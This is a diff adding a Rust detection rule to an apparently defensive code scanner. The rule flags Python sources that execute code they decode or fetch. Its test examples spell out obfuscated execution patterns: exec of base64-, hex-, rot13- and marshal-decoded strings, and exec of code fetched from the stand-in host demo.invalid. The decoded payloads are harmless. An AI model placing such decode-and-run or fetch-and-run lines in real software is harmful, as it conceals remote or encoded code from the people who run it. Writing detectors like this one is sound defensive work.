@@ -1,0 +1,127 @@
+//! Python sources that run what they decode or fetch.
+
+use weighbridge_domain::{Confidence, Severity};
+
+use super::source::{self, Scale, Told};
+use super::{Check, Example, Findings, Light, Rule};
+use crate::facts::Facts;
+use crate::known::effects::Effect;
+use crate::samples::source::{forward, function, module};
+use crate::text;
+
+/// Python sources that run what they decode or fetch.
+pub static RULE: Rule = Rule {
+    id: "source-decodes-and-runs",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    light: Light::Content,
+    since: "0.1.0",
+    summary: "A Python source runs what it decodes or fetches",
+    why: "Code is encoded, compressed or left on another host so that nobody who reads the source reads it. Critical when it \
+          runs as soon as the file is imported or installed, high while the model is loaded or answers, medium in a function \
+          that somebody has to call. Constants are decoded and read: what they do is reported beside this.",
+    advice: "Do not import the file. Decode the text elsewhere if you have to know what it does.",
+    references: &["CWE-506", "CWE-94", "AML.T0010", "AML.T0011"],
+    examples: &[
+        Example {
+            name: "base64",
+            files: || module("import base64\nexec(base64.b64decode('cHJpbnQoImRlbW8iKQ=='))"),
+            fires: FIRES,
+        },
+        Example {
+            name: "base64-twin",
+            files: || module("import base64\nprint(base64.b64decode('cHJpbnQoImRlbW8iKQ=='))"),
+            fires: &[],
+        },
+        Example {
+            name: "base64-that-acts",
+            files: || {
+                module(
+                    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiZWNobyB3ZWlnaGJyaWRnZS1kZW1vIik='))",
+                )
+            },
+            fires: &["source-decodes-and-runs", "source-starts-process"],
+        },
+        Example {
+            name: "in-steps",
+            files: || {
+                module(
+                    "import base64, zlib\nfrom demo import data\na = base64.b64decode(data)\nb = zlib.decompress(a).decode()\nc = compile(b, 'demo', 'exec')\nexec(c)",
+                )
+            },
+            fires: FIRES,
+        },
+        Example {
+            name: "in-steps-twin",
+            files: || {
+                module(
+                    "import base64, zlib\nfrom demo import data\na = base64.b64decode(data)\nb = zlib.decompress(a).decode()\nprint(b)",
+                )
+            },
+            fires: &[],
+        },
+        Example {
+            name: "hexadecimal",
+            files: || module("exec(bytes.fromhex('7072696e74282264656d6f2229').decode())"),
+            fires: FIRES,
+        },
+        Example {
+            name: "rotated",
+            files: || module("import codecs\neval(codecs.decode('cevag(\"qrzb\")', 'rot13'))"),
+            fires: FIRES,
+        },
+        Example {
+            name: "marshal",
+            files: || module("import marshal\nfrom demo import data\nexec(marshal.loads(data))"),
+            fires: &["source-decodes-and-runs", "source-unsafe-load"],
+        },
+        Example {
+            name: "fetched",
+            files: || forward("import requests", "exec(requests.get('https://demo.invalid/a').text)"),
+            fires: &["source-decodes-and-runs", "source-opens-network"],
+        },
+        Example {
+            name: "fetched-and-opened",
+            files: || {
+                function(
+                    "from urllib.request import urlopen",
+                    "with urlopen('https://demo.invalid/a') as r:\n    code = r.read()\nexec(code)",
+                )
+            },
+            fires: &["source-decodes-and-runs", "source-opens-network"],
+        },
+        Example {
+            name: "command",
+            files: || {
+                module(
+                    "import base64, os\nos.system(base64.b64decode('ZWNobyB3ZWlnaGJyaWRnZS1kZW1v').decode())",
+                )
+            },
+            fires: FIRES,
+        },
+    ],
+    check: Check::File(check),
+};
+
+const FIRES: &[&str] = &["source-decodes-and-runs"];
+
+const SCALE: Scale = [Severity::Medium, Severity::High, Severity::Critical];
+
+fn check(facts: &Facts, findings: &mut Findings<'_>) {
+    let mut told = Told::default();
+    for effect in [Effect::RunsCode, Effect::StartsProcess] {
+        for (place, one) in source::uses(facts, effect) {
+            let Some((by, brought)) = source::brought(one) else { continue };
+            // To make code is a step; where it is run, that is told.
+            if one.name.ends_with(".compile") {
+                continue;
+            }
+            let verb = if brought == Effect::Network { "fetches" } else { "decodes" };
+            let by = text::shown(&by.to_string(), 60);
+            // A cell of a notebook is there to be run.
+            let least = if place.format() == "notebook-cell" { Severity::High } else { Severity::Medium };
+            let severity = source::at(SCALE, one.when).max(least);
+            told.add(findings, place, one, severity, &format!("runs what `{by}` {verb},"));
+        }
+    }
+}
